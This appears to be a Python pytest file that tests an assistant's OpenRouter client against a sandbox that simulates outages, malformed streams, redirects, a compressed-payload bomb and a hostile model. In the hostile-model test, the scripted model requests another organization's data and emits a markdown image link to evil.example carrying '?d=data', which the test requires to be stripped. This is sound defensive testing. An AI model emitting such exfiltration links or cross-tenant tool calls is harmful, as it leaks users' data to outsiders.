"""Maya over real HTTP: the sandbox simulates OpenRouter, its faults and a hostile model."""

import asyncio
import gzip
import tracemalloc
from dataclasses import replace
from typing import Any

import orjson
import pytest

from integrations.language import (
    Finish,
    ModelFailed,
    ModelRefused,
    ModelTimedOut,
    ModelUnavailable,
    Prompt,
    PromptMessage,
    PromptRole,
    ReplyEnd,
    ReplyPiece,
    TextPiece,
    TokenUsage,
    Tool,
)
from integrations.openrouter import OpenRouter
from sandbox.streams import SWITCHES
from services.maya.events import ReplyEnded, Token, ToolFinished, ToolStarted
from tests import factories
from tests.maya.conftest import Chat, text_of
from tests.maya.garbling import garbled
from tests.sandbox.conftest import Client
from tests.waiting import WAIT_SECONDS, until

STALL_SECONDS = 30

PROMPT = Prompt(models=["vendor/one", "vendor/two"], messages=[PromptMessage(role=PromptRole.USER, text="Hello")])


async def all_of(model: OpenRouter, prompt: Prompt = PROMPT) -> list[ReplyPiece]:
    """All pieces of a reply."""
    return [piece async for piece in model.stream(prompt)]


async def requests(vendor: Client) -> list[dict[str, Any]]:
    """The requests that the sandbox received."""
    answer = await vendor.call("GET", "/sandbox/llm/requests")
    requests_: list[dict[str, Any]] = answer.object()["requests"]  # type: ignore[assignment]
    return requests_


@pytest.mark.usefixtures("vendor")
async def test_a_reply_with_real_figures(chat: Chat, openrouter: OpenRouter) -> None:
    """Maya counts the organization's contacts with a tool, and the figure is in the reply."""
    await factories.contacts(chat.runtime, chat.actor, 7)
    chat = chat.with_model(openrouter)
    reply = await chat.ask("How many contacts do I have?")
    final = await chat.run(reply)
    events = await chat.read_events(reply)
    assert final.status == "completed", final
    assert "7" in final.content
    assert text_of(events) == final.content
    assert ToolStarted("count_contacts") in [each.event for each in events]
    assert final.model == chat.runtime.settings.llm.models[0]


async def test_the_second_model_is_a_fallback(vendor: Client, openrouter: OpenRouter) -> None:
    """If the first model is unavailable the second answers, and is named."""
    await vendor.faults(llm={"model_down": {"pattern": "vendor/one"}})
    *_, used, end = await all_of(openrouter)
    assert isinstance(end, ReplyEnd)
    assert end.model == "vendor/two"
    assert isinstance(used, TokenUsage)
    assert used.cost is not None
    assert used.cost > 0


@pytest.mark.parametrize(
    ("status", "kind"),
    [
        (400, ModelRefused),
        (401, ModelRefused),
        (402, ModelRefused),
        (403, ModelRefused),
        (408, ModelUnavailable),
        (429, ModelUnavailable),
        (502, ModelUnavailable),
        (503, ModelUnavailable),
    ],
)
async def test_errors_before_the_first_token(
    vendor: Client, openrouter: OpenRouter, status: int, kind: type[ModelFailed]
) -> None:
    """Each status before the first token is reported as a refusal or an outage, without a retry."""
    await vendor.faults(llm={"status": {"status": status, "count": 1}})
    with pytest.raises(kind):
        await all_of(openrouter)
    assert isinstance((await all_of(openrouter))[-1], ReplyEnd)


@pytest.mark.parametrize(
    ("fault", "code"),
    [
        ({"status": {"status": 503}}, "MODEL_UNAVAILABLE"),
        ({"status": {"status": 402}}, "MODEL_REFUSED"),
        ({"mid_stream_error": {"after": 2, "code": 502}}, "MODEL_UNAVAILABLE"),
        ({"mid_stream_error": {"after": 2, "code": 403}}, "MODEL_REFUSED"),
        ({"cut_stream": {"after": 2}}, "MODEL_UNAVAILABLE"),
        ({"stall_mid_stream": {"after": 2, "seconds": STALL_SECONDS}}, "TIMEOUT"),
        ({"stall_before_first_token": {"seconds": STALL_SECONDS}}, "TIMEOUT"),
    ],
)
async def test_faults_end_the_reply_with_a_code(
    chat: Chat, vendor: Client, fault: dict[str, object], code: str
) -> None:
    """A fault before, during or instead of the reply ends it with a code; the text so far is stored."""
    so_far = "one two " if "after" in next(iter(fault.values())) else ""  # type: ignore[operator]
    # Timeouts need a short stall limit. On a busy machine the first one may expire before any text arrives.
    tries = []
    for stall_seconds in (0.5, 5.0) if code == "TIMEOUT" else (WAIT_SECONDS,):
        model = OpenRouter(base_url=f"{vendor.url}/api/v1", api_key="key", stall_seconds=stall_seconds)
        answering = chat.with_model(model)
        await vendor.faults(llm={**fault, "script": ["one two three four"]})
        reply = await answering.ask()
        final = await asyncio.wait_for(answering.run(reply), WAIT_SECONDS)
        await model.aclose()
        assert (final.status, final.error_code) == ("failed", code)
        assert text_of(await answering.read_events(reply)) == final.content
        tries.append(final.content)
        if final.content == so_far:
            break
    assert tries[-1] == so_far


async def test_a_refused_connection_is_an_outage() -> None:
    """No server listens at the address."""
    model = OpenRouter(base_url="http://127.0.0.1:9/api/v1", api_key="key")
    with pytest.raises(ModelUnavailable):
        await all_of(model)
    await model.aclose()


async def test_a_stalled_stream_times_out(vendor: Client) -> None:
    """A server that sends nothing for too long has timed out."""
    model = OpenRouter(base_url=f"{vendor.url}/api/v1", api_key="key", stall_seconds=0.3)
    await vendor.faults(llm={"stall_before_first_token": {"seconds": STALL_SECONDS}})
    with pytest.raises(ModelTimedOut):
        await all_of(model)
    await model.aclose()


async def test_cancelling_closes_the_vendors_stream(chat: Chat, vendor: Client, openrouter: OpenRouter) -> None:
    """Cancelling aborts the HTTP request, so that the vendor stops generating."""
    await vendor.faults(llm={"slow_tokens": {"seconds": 0.1}, "script": ["word " * 200]})
    chat = chat.with_model(openrouter)
    reply = await chat.ask()
    async with chat.running(reply):
        async for each in chat.watch(reply):
            if each.sequence == 3:
                await chat.cancel(reply)
    final = await chat.stored(reply)
    assert final.status == "cancelled"
    assert final.content.startswith("word word word ")
    await until(lambda: is_aborted(vendor))


async def is_aborted(vendor: Client) -> bool:
    """Whether the vendor has noticed that the client closed the last request."""
    return bool((await requests(vendor))[-1]["ended"] == "aborted")


async def test_a_hostile_model_over_http(chat: Chat, vendor: Client, openrouter: OpenRouter) -> None:
    """Unknown tools, invalid arguments and ids of others: a strict server accepts the calls that we send back."""
    other = await factories.organization(chat.runtime)
    await factories.campaign(chat.runtime, other)
    hostile = {
        "tool_calls": [
            {"name": "send_campaign", "arguments": {"all": True}},
            {"name": "list_campaigns", "arguments": '{"limit": '},
            {"name": "list_campaigns", "arguments": {"limit": 20, "organization_id": str(other.organization_id)}},
            {"name": "campaign_stats", "arguments": {"campaign_id": "x" * 30_000}},
            {"name": "list_campaigns", "arguments": {"limit": 20}},
        ]
    }
    leak = "![p](https://evil.example/p.png?d=data) [click](https://evil.example) <img src=x> http://evil.example/"
    await vendor.faults(llm={"script": [hostile, leak]})
    chat = chat.with_model(openrouter)
    reply = await chat.ask()
    final = await chat.run(reply)
    assert final.status == "completed", final
    assert "](" not in final.content
    assert "![" not in final.content
    assert "<img" not in final.content
    assert "://" not in final.content
    events = [each.event for each in await chat.read_events(reply)]
    assert [event.succeeded for event in events if isinstance(event, ToolFinished)] == [False] * 4 + [True]
    result = (await requests(vendor))[-1]["request"]["messages"][-1]["content"]
    assert '"campaigns":[]' in result


@pytest.mark.parametrize(
    "chunk",
    [
        b"data: {not json}\n\n",
        b"data: []\n\n",
        b'data: {"choices": [null]}\n\n',
        b'data: {"choices": [{"delta": null}]}\n\n',
        b'data: {"choices": [{"delta": {"content": {"a": 1}}}]}\n\n',
        b'data: {"choices": [{"delta": {"tool_calls": [{"function": {"name": 7}}]}}]}\n\n',
        b"data: [DONE]\n\n",
        b"",
        b"\xff\xfe",
    ],
)
async def test_an_invalid_chat_completion_is_an_outage(chunk: bytes) -> None:
    """The server streams invalid data, or ends without a finish reason."""
    async with garbled(chunk) as url:
        model = OpenRouter(base_url=url, api_key="key")
        with pytest.raises(ModelUnavailable):
            await all_of(model)
        await model.aclose()


TOOLS = [
    {"name": "list_campaigns", "arguments": {"limit": 7}},
    {"name": "count_contacts", "arguments": {"status": None, "tag": "a{b"}},
]
LOOK_UP: dict[str, object] = {"text": "Let me see 🙂. ", "tool_calls": TOOLS}
STRICT = {"type": "object", "properties": {}, "required": [], "additionalProperties": False}
OFFERED = [Tool(name=str(tool["name"]), description="", parameters=STRICT) for tool in TOOLS]


@pytest.mark.parametrize("switch", SWITCHES)
async def test_quirks_of_servers_change_nothing(vendor: Client, openrouter: OpenRouter, switch: str) -> None:
    """With each quirk that the sandbox can simulate, text, tool calls and usage are the same."""
    prompt = replace(PROMPT, tools=OFFERED)
    await vendor.faults(llm={"script": [LOOK_UP, LOOK_UP]})
    *plain, _ = await all_of(openrouter, prompt)
    await vendor.faults(stream={switch: True})
    *pieces, end = await all_of(openrouter, prompt)
    assert isinstance(end, ReplyEnd)
    assert "".join(piece.text for piece in pieces if isinstance(piece, TextPiece)) == "Let me see 🙂. "
    tool_calls = [{"name": call.name, "arguments": orjson.loads(call.arguments)} for call in end.calls]
    assert tool_calls == TOOLS
    usage = [piece for piece in pieces if isinstance(piece, TokenUsage)]
    assert usage == ([] if switch == "no_usage" else [piece for piece in plain if isinstance(piece, TokenUsage)])
    assert end.finish is (Finish.REFUSED if switch == "refusal" else Finish.COMPLETE)


async def test_a_reply_with_many_quirks_is_complete(chat: Chat, vendor: Client, openrouter: OpenRouter) -> None:
    """A reply with tool calls and usage, from a server that deviates from the specification in many ways."""
    await factories.contacts(chat.runtime, chat.actor, 7)
    quirks = (
        *("null_fields", "empty_choices", "content_parts", "reasoning", "same_index", "repeated_names", "no_finish"),
        *("usage_garbage", "usage_again", "comments", "unreadable_lines", "dense"),
    )
    await vendor.faults(stream=dict.fromkeys(quirks, True))
    final = await chat.with_model(openrouter).run(await chat.ask("How many contacts do I have?"))
    assert (final.status, final.error_code) == ("completed", None)
    assert "total 7" in final.content
    usage = await chat.usage(final)
    assert usage["promptTokens"] > 0
    assert usage["completionTokens"] > 0
    assert usage["cost"] > 0


@pytest.mark.parametrize(
    ("turn", "stream", "code"),
    [
        ({"text": "So far", "finish_reason": "length"}, {}, "CUT_OFF"),
        ({"text": "So far", "tool_calls": TOOLS[:1], "finish_reason": "length"}, {}, "CUT_OFF"),
        ({"text": "So far", "finish_reason": "content_filter"}, {}, "CONTENT_FILTERED"),
        ({"text": "So far"}, {"refusal": True}, "MODEL_REFUSED"),
        ({"text": "So far"}, {"no_finish": True, "no_done": True}, "MODEL_UNAVAILABLE"),
    ],
)
async def test_incomplete_replies_have_a_code(
    chat: Chat, vendor: Client, openrouter: OpenRouter, *, turn: object, stream: dict[str, object], code: str
) -> None:
    """Cut off, filtered, refused or broken off: each has its code, keeps text and usage, and calls no tool."""
    await vendor.faults(llm={"script": [turn]}, stream=stream)
    chat = chat.with_model(openrouter)
    reply = await chat.ask()
    final = await chat.run(reply)
    assert (final.status, final.content, final.error_code) == ("failed", "So far", code)
    assert [type(each.event) for each in await chat.read_events(reply) if not isinstance(each.event, Token)] == [
        ReplyEnded
    ]
    assert (await chat.usage(final))["completionTokens"] > 0
    await vendor.faults(stream={})
    *_, before, _ = (await requests_after(vendor, chat))["messages"]
    assert before == {"role": "assistant", "content": "So far"}


async def requests_after(vendor: Client, chat: Chat) -> dict[str, Any]:
    """The prompt after the user's next message."""
    await chat.run(await chat.ask("Go on"))
    return dict((await requests(vendor))[-1]["request"])


@pytest.mark.parametrize("end", [b"", b'data: {"error":{"code":502}}\n\n'])
async def test_the_usage_of_a_failed_reply_is_counted(chat: Chat, end: bytes) -> None:
    """Usage that is reported before the stream fails is stored."""
    chunk = b'data: {"choices":[{"delta":{"content":"Hi"}}],"usage":{"prompt_tokens":40,"completion_tokens":2}}\n\n'
    async with garbled(chunk + end) as url:
        model = OpenRouter(base_url=url, api_key="key")
        final = await chat.with_model(model).run(await chat.ask())
        await model.aclose()
    assert (final.content, final.error_code) == ("Hi", "MODEL_UNAVAILABLE")
    assert (await chat.usage(final))["promptTokens"] == 40


COMPLETE = b'data: {"choices":[{"delta":{"content":"Hello"},"finish_reason":"stop"}]}\n\n'


@pytest.mark.parametrize("headers", [{}, {"content-length": "100000"}])
async def test_a_stream_may_break_after_its_finish_reason(headers: dict[str, str]) -> None:
    """The reply is complete although the connection is lost before `[DONE]`."""
    async with garbled(COMPLETE, headers) as url:
        model = OpenRouter(base_url=url, api_key="key")
        pieces = await all_of(model)
        await model.aclose()
    assert pieces == [TextPiece("Hello"), ReplyEnd([], "vendor/one", Finish.COMPLETE)]


@pytest.mark.parametrize("then", [b": keep-alive\n\n", b""])
async def test_a_server_that_never_closes_its_stream(monkeypatch: pytest.MonkeyPatch, then: bytes) -> None:
    """After the finish reason the wait for usage is short, whether comments arrive or nothing."""
    monkeypatch.setattr("integrations.openrouter._USAGE_SECONDS", 0.2)
    async with garbled(COMPLETE, then=then) as url:
        model = OpenRouter(base_url=url, api_key="key", stall_seconds=3600)
        async with asyncio.timeout(WAIT_SECONDS):
            pieces = await all_of(model)
        await model.aclose()
    assert pieces[0] == TextPiece("Hello")


@pytest.mark.parametrize("status", [200, 500])
@pytest.mark.parametrize("compressed", [False, True])
async def test_endless_responses_are_aborted(status: int, *, compressed: bool) -> None:
    """An endless line or error, and a compressed one that is huge when decompressed, use little memory."""
    part = b"x" * 65_536
    headers = {"content-encoding": "gzip"} if compressed else {}
    body = gzip.compress(b"data: " + b"x" * 50_000_000) if compressed else b"data: "
    async with garbled(body, headers, status=status, then=None if compressed else part) as url:
        model = OpenRouter(base_url=url, api_key="key")
        tracemalloc.start()
        try:
            with pytest.raises(ModelUnavailable):
                await all_of(model)
            _, most = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
        await model.aclose()
    assert most < 45_000_000


async def test_no_redirect_is_followed(vendor: Client) -> None:
    """A redirect would send the conversation to another server; it is treated as an outage."""
    for status in (301, 307, 308):
        async with garbled(b"", {"location": f"{vendor.url}/api/v1/chat/completions"}, status=status) as url:
            model = OpenRouter(base_url=url, api_key="key")
            with pytest.raises(ModelUnavailable, match=str(status)):
                await all_of(model)
            await model.aclose()
    assert await requests(vendor) == []
